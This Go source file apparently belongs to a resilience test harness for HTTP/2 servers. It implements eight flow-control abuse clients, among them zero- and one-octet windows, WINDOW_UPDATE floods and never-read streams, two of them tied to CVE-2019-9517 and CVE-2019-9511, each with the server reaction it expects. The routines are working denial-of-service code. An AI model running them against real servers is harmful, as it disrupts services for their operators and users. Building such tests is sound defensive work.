package attack

import (
	"context"

	"golang.org/x/net/http2"
)

// clientWindows are games with flow control (RFC 9113 section 5.2).
func clientWindows() []Client {
	return []Client{
		{
			Name: "never reading", What: "asks for endless answers with windows as large as they get, and reads nothing (CVE-2019-9517)",
			Want: []string{held, gone}, Memory: budgeted, Lasts: true, Run: neverReading,
		},
		{
			Name: "windows of zero", What: "asks for hundreds of endless answers and gives no window",
			Want: []string{held, answered, overBudget}, Memory: budgeted, Lasts: true, Run: noWindow,
		},
		{
			Name: "windows of one octet", What: "gives an endless answer its window octet by octet (CVE-2019-9511)",
			Want: []string{calm}, Memory: budgeted, Run: octetWindows,
		},
		{
			Name: "windows of the connection of one octet", What: "gives the connection its window octet by octet",
			Want: []string{calm}, Memory: budgeted, Run: octetConnection,
		},
		{
			Name: "windows that come and go", What: "changes SETTINGS_INITIAL_WINDOW_SIZE without end, with hundreds of streams",
			Want: []string{calm}, Memory: budgeted, Run: flipFlop,
		},
		{
			Name: "WINDOW_UPDATE flood", What: "enlarges the connection's window by 1 without end",
			Want: []string{calm}, Memory: ordinary, Run: flooding(appendWindow(nil, 0, 1)),
		},
		{
			Name: "WINDOW_UPDATE of streams that are over", What: "enlarges the window of a stream that was reset, without end",
			Want: []string{calm}, Memory: ordinary, Run: lateUpdates,
		},
		{
			Name: "beyond the connection's window", What: "sends frames of DATA on many streams as if there were no window",
			Want: []string{held, answered, refused, calm}, Memory: budgeted, Lasts: true, Run: noRestraint,
		},
	}
}

// endless opens streams that are answered without end.
func endless(c *caller, count int) {
	block, ids := request(MethodEndless), streams{}
	var p []byte
	for range count {
		id := ids.next()
		p = appendRequest(p, whole, id, block)
		p = appendFrame(p, http2.FrameData, http2.FlagDataEndStream, id, emptyMessage)
	}
	_ = c.write(p)
}

func neverReading(ctx context.Context, address string) (End, error) {
	const connections, streams = 2, 600 // of 64 KiB each: more than the budget

	var all []*caller
	for range connections {
		c, err := greetDeaf(ctx, address, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1})
		if err != nil {
			return End{}, err
		}
		all = append(all, c)
		_ = c.write(appendWindow(nil, 0, 1<<31-1-65535))
		endless(c, streams)
	}
	<-ctx.Done()
	var end End
	for _, c := range all {
		end = c.end()
	}

	return end, nil
}

func noWindow(ctx context.Context, address string) (End, error) {
	c, err := greet(ctx, address, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	if err != nil {
		return End{}, err
	}
	endless(c, 300)
	c.await(ctx, func() bool { return false })

	return c.end(), nil
}

func octetWindows(ctx context.Context, address string) (End, error) {
	c, err := greet(ctx, address, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
	if err != nil {
		return End{}, err
	}
	_ = c.write(appendWindow(nil, 0, 1<<30))
	endless(c, 1)
	c.await(ctx, func() bool { return c.data > 0 })
	c.flood(ctx, func(p []byte) []byte { return appendWindow(p, 1, 1) })

	return c.end(), nil
}

func octetConnection(ctx context.Context, address string) (End, error) {
	c, err := greet(ctx, address, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1})
	if err != nil {
		return End{}, err
	}
	endless(c, 50)
	c.await(ctx, func() bool { return c.data >= 65535 })
	c.flood(ctx, func(p []byte) []byte { return appendWindow(p, 0, 1) })

	return c.end(), nil
}

func flipFlop(ctx context.Context, address string) (End, error) {
	c, err := greet(ctx, address, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	if err != nil {
		return End{}, err
	}
	endless(c, 300)
	up, down := settingsOf(http2.SettingInitialWindowSize, 1), settingsOf(http2.SettingInitialWindowSize, 0)
	c.flood(ctx, func(p []byte) []byte { return append(append(p, up...), down...) })

	return c.end(), nil
}

func lateUpdates(ctx context.Context, address string) (End, error) {
	c, err := greet(ctx, address)
	if err != nil {
		return End{}, err
	}
	_ = c.write(appendReset(appendRequest(nil, whole, 1, request(MethodHang)), 1))
	c.flood(ctx, func(p []byte) []byte { return appendWindow(p, 1, 1) })

	return c.end(), nil
}

func noRestraint(ctx context.Context, address string) (End, error) {
	c, err := greet(ctx, address)
	if err != nil {
		return End{}, err
	}
	block, ids := request(MethodHang), streams{}
	payload := make([]byte, 16<<10)
	c.flood(ctx, func(p []byte) []byte {
		id := ids.next()
		p = appendRequest(p, whole, id, block)
		for range 3 { // less than a stream's window, of many streams
			p = appendFrame(p, http2.FrameData, 0, id, payload)
		}

		return p
	})

	return c.end(), nil
}
